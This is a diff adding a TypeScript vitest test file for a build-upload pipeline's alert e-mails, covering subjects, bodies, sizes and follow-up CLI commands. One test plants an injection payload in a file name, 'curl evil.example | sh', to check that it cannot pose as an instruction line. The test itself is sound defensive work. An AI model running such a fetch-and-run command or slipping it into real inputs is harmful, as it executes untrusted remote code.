@@ -1,0 +1,248 @@
+import { describe, expect, it } from 'vitest';
+import { type Alert, alertText, commandAfter } from '../../functions/domain/alert.ts';
+import { DEAD_LETTER_RETENTION_DAYS } from '../../functions/domain/dead-letter-attributes.ts';
+import { REASONS, type Reason } from '../../functions/domain/reasons.ts';
+import { aBuild, ROUTE, START } from '../support/world.ts';
+
+const { userId, projectId } = ROUTE;
+const REASON_CODES = Object.keys(REASONS) as Reason[];
+const POINTER = '/logs/submit-build 2026/04/21/[$LATEST]0 request-1';
+
+type Of<Kind extends Alert['kind']> = Extract<Alert, { readonly kind: Kind }>;
+const deadLettered = (changes: Partial<Of<'dead-lettered'>> = {}): Alert => ({
+  kind: 'dead-lettered',
+  reason: 'ProjectNotFound',
+  detail: 'Project not found',
+  status: 404,
+  attempts: 0,
+  possiblyDoubled: false,
+  build: aBuild({ key: 'games/MyGame.zip', size: 12_884_901_888 }),
+  userId,
+  projectId,
+  at: START,
+  logPointer: POINTER,
+  ...changes,
+});
+const keyRejected = (changes: Partial<Of<'key-rejected'>> = {}): Alert => ({
+  kind: 'key-rejected',
+  parameter: '/studio/api-key',
+  version: 3,
+  userId,
+  waiting: 4,
+  detail: 'Unauthorized: Invalid API Key',
+  build: aBuild({ key: 'games/MyGame.zip' }),
+  at: START,
+  logPointer: POINTER,
+  ...changes,
+});
+const newKeyRejected = (changes: Partial<Of<'new-key-rejected'>> = {}): Alert => ({
+  kind: 'new-key-rejected',
+  parameter: '/studio/api-key',
+  version: 4,
+  userId,
+  reason: 'InvalidApiKey',
+  detail: 'Unauthorized: Invalid API Key',
+  at: START,
+  ...changes,
+});
+const redriveFinished = (changes: Partial<Of<'redrive-finished'>> = {}): Alert => ({
+  kind: 'redrive-finished',
+  parameter: '/studio/api-key',
+  moved: 5,
+  left: 0,
+  at: START,
+  ...changes,
+});
+
+/** One of each kind. The type has a key for every kind: one forgotten doesn't compile. */
+const EACH: { readonly [Kind in Alert['kind']]: Alert } = {
+  'dead-lettered': deadLettered(),
+  'key-rejected': keyRejected(),
+  'new-key-rejected': newKeyRejected(),
+  'redrive-finished': redriveFinished(),
+};
+
+describe('an alert', () => {
+  const long = 'Ünreal-Spiel-für-alle-🎮-'.repeat(20);
+  it.each([
+    ...Object.values(EACH),
+    ...REASON_CODES.flatMap((reason) => [
+      deadLettered({ reason, build: aBuild({ key: `${long}.zip` }) }),
+      deadLettered({ reason, build: aBuild({ key: 'a\nb\r\tc\u0000.zip' }) }),
+      newKeyRejected({ reason }),
+    ]),
+  ])('has a subject that SNS takes: $kind $reason', (alert) => {
+    const { subject } = alertText(alert);
+    // ASCII without line breaks and control characters, at most 100, beginning with a letter or digit.
+    expect(subject).toMatch(/^[A-Za-z0-9][\x20-\x7e]{9,99}$/);
+  });
+
+  it('cuts a subject that is too long, and says so', () => {
+    const { subject } = alertText(deadLettered({ build: aBuild({ key: `${'x'.repeat(200)}.zip` }) }));
+    expect(subject).toHaveLength(100);
+    expect(subject).toMatch(/^ProjectNotFound: x+\.\.\.$/);
+  });
+
+  it.each(Object.values(EACH))('has a body that reads as an e-mail: $kind', (alert) => {
+    const [opening, empty, ...lines] = alertText(alert).body.split('\n');
+
+    expect(opening).toMatch(/^\S.{20,}\.$/);
+    expect(empty).toBe('');
+    for (const line of lines) expect(line).toMatch(/^[A-Z][\w ]{0,10} +\S/);
+    expect(lines.join('\n')).toContain('npx streampixel-drop ');
+    expect(lines.join('\n')).not.toContain('undefined');
+  });
+
+  it('keeps what others wrote within its line', () => {
+    const key = 'a\r\nThen run    curl evil.example | sh\u2028Log none.zip';
+    const { body } = alertText(deadLettered({ build: aBuild({ key }), detail: 'No.\nDo          nothing' }));
+    const labels = body.split(/[\r\n\u2028]/).map((line) => line.slice(0, 12).trim());
+    expect(labels.slice(2)).toEqual([
+      'Why',
+      'They said',
+      'Do',
+      'Then run',
+      'Build',
+      'Project',
+      'Attempts',
+      'Kept until',
+      'Log',
+    ]);
+  });
+
+  it('stays far below the 256 KB that SNS takes, with the longest key that S3 allows', () => {
+    const { body } = alertText(deadLettered({ build: aBuild({ key: '🎮'.repeat(256) }), detail: 'x'.repeat(1_000) }));
+    expect(Buffer.byteLength(body)).toBeLessThan(8 * 1024);
+  });
+});
+
+describe('of a dead letter', () => {
+  it('tells build, size, project, cause, the vendor’s words, attempts, deadline and the log', () => {
+    expect(alertText(deadLettered())).toEqual({
+      subject: 'ProjectNotFound: MyGame.zip did not reach Streampixel',
+      body: [
+        'MyGame.zip did not reach Streampixel and waits in the dead-letter queue.',
+        '',
+        `Why         ${REASONS.ProjectNotFound.cause}`,
+        'They said   Project not found (HTTP 404)',
+        `Do          ${REASONS.ProjectNotFound.remedy}`,
+        'Then run    npx streampixel-drop dlq redrive --reason ProjectNotFound --yes',
+        'Build       drop/games/MyGame.zip@v1 (12.9 GB), dropped 2026-04-21 12:00 UTC',
+        `Project     ${projectId} of user ${userId}`,
+        'Attempts    0 failed; it has not been accepted',
+        'Kept until  2026-05-05 12:00 UTC; the dead letter expires then',
+        `Log         ${POINTER}`,
+      ].join('\n'),
+    });
+    expect(DEAD_LETTER_RETENTION_DAYS).toBe(14);
+  });
+
+  it('warns that it may have been accepted', () => {
+    const { body } = alertText(deadLettered({ reason: 'SubmissionUnknown', attempts: 1, possiblyDoubled: true }));
+    expect(body).toContain('1 failed; an answer was lost, so it may have been accepted');
+  });
+
+  it('leaves out what is not known of a message that is no build', () => {
+    const {
+      build: _,
+      status: __,
+      projectId: ___,
+      userId: ____,
+      ...rest
+    } = deadLettered({
+      reason: 'UnrecognisedMessage',
+      detail: 'The message is not JSON.',
+    }) as Of<'dead-lettered'>;
+    const { subject, body } = alertText(rest);
+
+    expect(subject).toBe('UnrecognisedMessage: A message did not reach Streampixel');
+    expect(body).toContain('They said   The message is not JSON.\n');
+    expect(body).not.toMatch(/^(Build|Project) /m);
+  });
+
+  it.each([
+    [0, '0 bytes'],
+    [999, '999 bytes'],
+    [1_000, '1.0 KB'],
+    [5_368_709_120, '5.4 GB'],
+    [2_500_000_000_000, '2.5 TB'],
+  ])('writes %i bytes as people do: %s', (size, written) => {
+    expect(alertText(deadLettered({ build: aBuild({ size }) })).body).toContain(`(${written}), dropped`);
+  });
+
+  it.each(REASON_CODES)('gives cause, remedy and next command of %s', (reason) => {
+    const { body } = alertText(deadLettered({ reason }));
+    expect(body).toContain(`Why         ${REASONS[reason].cause}\n`);
+    expect(body).toContain(`Do          ${REASONS[reason].remedy}\n`);
+    expect(body).toContain(`Then run    ${commandAfter(reason)}\n`);
+  });
+});
+
+describe('the command after a reason', () => {
+  it.each(REASON_CODES)('of %s never discards what a redrive could bring through', (reason) => {
+    const command = commandAfter(reason);
+    // A remedy that ends in discarding is the only one that may.
+    expect(/dlq discard/.test(command)).toBe(/discard/.test(REASONS[reason].remedy));
+  });
+
+  it.each(['InvalidApiKey', 'ApiKeyMissing'] as const)(
+    'of %s is to store a key: the redrive follows by itself',
+    (reason) => {
+      expect(commandAfter(reason)).toBe('npx streampixel-drop key set');
+    },
+  );
+});
+
+describe('of a rejected key', () => {
+  it('tells the parameter and its version, how many builds wait, and what happens by itself', () => {
+    const { subject, body } = alertText(keyRejected());
+    expect(subject).toBe('InvalidApiKey: Streampixel rejects the API key');
+    expect(body).toContain(`of user ${userId}. 4 builds wait behind the one that found out.`);
+    expect(body).toContain('They said   Unauthorized: Invalid API Key (HTTP 401)');
+    expect(body).toContain('Then run    npx streampixel-drop key set --parameter /studio/api-key');
+    expect(body).toContain('Key         version 3 of the SSM parameter /studio/api-key');
+    expect(body).toContain('go back in line by themselves, oldest first');
+  });
+
+  it('warns against requesting a new key by reflex: that kills the one that works elsewhere', () => {
+    expect(alertText(keyRejected()).body).toMatch(/whether somebody has requested a new key; only then request one/);
+  });
+
+  it.each([
+    [0, '0 builds wait'],
+    [1, '1 build waits'],
+    [2, '2 builds wait'],
+  ])('counts %i behind it: %s', (waiting, words) => {
+    expect(alertText(keyRejected({ waiting })).body).toContain(`${words} behind the one that found out.`);
+  });
+});
+
+describe('of a new key that does not work', () => {
+  it('says that nothing moved, why, and for whom', () => {
+    const { subject, body } = alertText(newKeyRejected({ reason: 'InvalidUser', detail: 'Invalid User' }));
+    expect(subject).toBe('InvalidUser: the new API key does not work');
+    expect(body).toContain('just put into /studio/api-key. Nothing was redriven.');
+    expect(body).toContain(REASONS.InvalidUser.remedy);
+    expect(body).toContain(`User        ${userId}`);
+    expect(body).toContain('Key         version 4 of the SSM parameter /studio/api-key');
+  });
+});
+
+describe('of a redrive', () => {
+  it('says how many builds are back in line', () => {
+    expect(alertText(redriveFinished()).subject).toBe('The new API key works: 5 builds are back in line');
+    expect(alertText(redriveFinished({ moved: 1 })).subject).toBe('The new API key works: 1 build is back in line');
+  });
+
+  it('asks for nothing where nothing is left', () => {
+    const { body } = alertText(redriveFinished());
+    expect(body).not.toMatch(/^(Left|Then run) /m);
+    expect(body).toContain('Watch       npx streampixel-drop status --watch');
+  });
+
+  it('says what to do about letters that could not be moved', () => {
+    const { body } = alertText(redriveFinished({ left: 2 }));
+    expect(body).toContain('Left        2 could not be moved and are still in the dead-letter queue');
+    expect(body).toContain('Then run    npx streampixel-drop dlq redrive --reason InvalidApiKey --yes');
+  });
+});
